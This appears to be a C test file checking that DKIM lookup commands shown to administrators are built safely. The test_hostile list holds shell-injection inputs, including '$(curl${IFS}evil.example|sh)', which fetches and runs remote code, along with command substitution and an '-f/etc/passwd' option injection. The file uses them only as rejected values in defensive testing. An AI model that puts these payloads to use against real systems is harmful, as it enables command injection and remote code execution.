/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* Commands that people are told to run: a shell reads exactly the words that were meant, whatever
 * the message says. */
#include "apply/command.h"
#include "rule-text.h"

static const char rule[] =
    "Finding: a\nSeverity: error\nProof: proved\nFix-By: sender\nFor-Each: dkim\n"
    "When: result is fail\nTitle: t\nExplanation: e\nExample: x\nCounter-Example: y\n"
    "Check: dig +short TXT {selector|SELECTOR}._domainkey.{domain|DOMAIN}\n";

/* The command for a signature of that selector and domain; NULL: none is given. */
static char *
command_for (const char *selector, const char *domain) {
  g_autoptr (RuleText) text = rule_text_new (rule, "");
  Case kase = {0};
  rule_text_assert_loads (text);
  *vec_push (text->arena, &kase.evidence.dkim, DkimRecord) =
      (DkimRecord){.trusted = FLAG_TRUE,
                   .result = SPAN ("fail"),
                   .selector = selector ? span_from_string (selector) : SPAN_NULL,
                   .domain = domain ? span_from_string (domain) : SPAN_NULL};
  findings_run (text->rules, text->worker, &kase, text->arena);
  g_assert_cmpuint (kase.findings.n, ==, 1);
  Span check = vec_at (&kase.findings, Finding, 0)->check;
  return span_is_null (check) ? NULL : g_strndup (check.data, check.len);
}

static void
test_plain (void) {
  static const struct {
    const char *selector, *domain, *command;
  } rows[] = {
      {"s1", "opera.example", "dig +short TXT s1._domainkey.opera.example"},
      {"a.b_c-d", "xn--opra-bpa.example.",
       "dig +short TXT a.b_c-d._domainkey.xn--opra-bpa.example."},
      /* no command with a word in it that the reader has to replace */
      {NULL, "opera.example", NULL},
      {"s1", NULL, NULL},
      {"20230601", "r4---sn.example", "dig +short TXT 20230601._domainkey.r4---sn.example"},
  };
  for (guint i = 0; i < G_N_ELEMENTS (rows); i++) {
    g_autofree char *command = command_for (rows[i].selector, rows[i].domain);
    g_assert_cmpstr (command, ==, rows[i].command);
  }
}

static void
test_hostile (void) {
  static const char *const values[] = {
      "$(curl${IFS}evil.example|sh)",
      "`id`",
      "a;id",
      "a b",
      "a\tb",
      "a\nid",
      "-f/etc/passwd",
      "+trace",
      "@192.0.2.1",
      "a|sh",
      "a&",
      "a>b",
      "a<b",
      "~root",
      "a*",
      "a?",
      "[a]",
      "{a,b}",
      "a'b",
      "a\"b",
      "a\\b",
      "#a",
      "!a",
      "a=b",
      "a..b",
      ".a",
      "a.-b",
      "d\xc3\xa9j\xc3\xa0",
      "\xe2\x80\xae",
      "",
      "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
  };
  for (guint i = 0; i < G_N_ELEMENTS (values); i++) {
    g_autofree char *as_selector = command_for (values[i], "opera.example");
    g_autofree char *as_domain = command_for ("s1", values[i]);
    g_assert_cmpstr (as_selector, ==, NULL);
    g_assert_cmpstr (as_domain, ==, NULL);
  }
}

/* A hyphen first is an option to dig, wherever it stands; inside a label it is none. */
static void
test_names (void) {
  g_assert_true (command_is_name (SPAN ("_dmarc.a-b.example")));
  g_assert_true (command_is_name (SPAN ("a.example.")));
  g_assert_false (command_is_name (SPAN ("-a.example")));
  g_assert_false (command_is_name (SPAN ("a.example..")));
  g_assert_false (command_is_name (SPAN (".")));
  g_assert_false (command_is_name (SPAN ("")));
  g_assert_true (command_is_name (SPAN ("a")));
  g_assert_true (command_is_name (SPAN ("a-")));
  g_assert_false (command_is_name (SPAN ("a..b")));
  g_assert_false (command_is_name (SPAN (".a")));
  g_assert_false (command_is_name (SPAN ("a.-b")));
  g_assert_false (command_is_name (SPAN ("a b")));
  g_autofree char *long_name = g_strnfill (254, 'a');
  for (guint i = 60; i < 254; i += 60)
    long_name[i] = '.';
  g_assert_false (command_is_name (span_from_string (long_name)));
  g_assert_true (command_is_name (span_of (long_name, 253)));
}

/* What an administrator's shell makes of the line. */
static void
test_shell (void) {
  g_autofree char *command = command_for ("a.b_c-d", "opera.example.");
  g_autofree char *script = g_strdup_printf ("printf '%%s\\n' %s", command);
  const char *argv[] = {"/bin/sh", "-c", script, NULL};
  g_autofree char *out = NULL;
  g_assert_true (g_spawn_sync (NULL, (char **)argv, NULL, G_SPAWN_DEFAULT, NULL, NULL, &out, NULL,
                               NULL, NULL));
  g_assert_cmpstr (out, ==, "dig\n+short\nTXT\na.b_c-d._domainkey.opera.example.\n");
}

int
main (int argc, char **argv) {
  g_test_init (&argc, &argv, NULL);
  g_test_add_func ("/command/plain", test_plain);
  g_test_add_func ("/command/hostile", test_hostile);
  g_test_add_func ("/command/names", test_names);
  g_test_add_func ("/command/shell", test_shell);
  return g_test_run ();
}
